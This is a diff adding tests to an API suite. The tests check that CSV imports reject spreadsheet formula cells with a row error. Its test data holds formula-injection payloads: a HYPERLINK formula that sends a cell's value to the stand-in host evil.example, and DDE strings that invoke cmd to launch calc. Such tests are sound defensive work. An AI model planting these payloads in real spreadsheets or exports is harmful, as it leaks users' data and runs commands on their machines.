@@ -243,3 +243,22 @@ describe('tokens: failed attempts are limited per address, lifetimes are bounded
     expect((await request(app).get('/v1/partners/known/audit').set('Authorization', lead)).status).toBe(200);
   });
 });
+
+describe('CSV formula cells are refused with a row error, never stored', () => {
+  test.each([
+    ['=HYPERLINK("http://evil.example/?"&A1,"click")', '='],
+    ["@SUM(1+1)*cmd|' /C calc'!A0", '@'],
+    ["+cmd|' /C calc'!A0", '+'],
+    ["-2+3+cmd|' /C calc'!A0", '-'],
+  ])('%s', async (cell, first) => {
+    const csv = `id,customer,public,source,designatedOn,status\nref-1,"${cell.replace(/"/g, '""')}",true,ace-opportunity,2019-03-01,approved\n`;
+    const res = await request(app)
+      .post('/v1/partners/known/evidence/import?kind=references')
+      .set('Authorization', await auth('evidence-feed'))
+      .set('Content-Type', 'text/csv')
+      .send(csv);
+    expectInvalid(res, ['row 2 › customer']);
+    expect(res.body.errors[0].message).toContain(`starts with '${first}', which a spreadsheet runs as a formula`);
+    expect(await store.getEvidence('known')).toBeUndefined();
+  });
+});
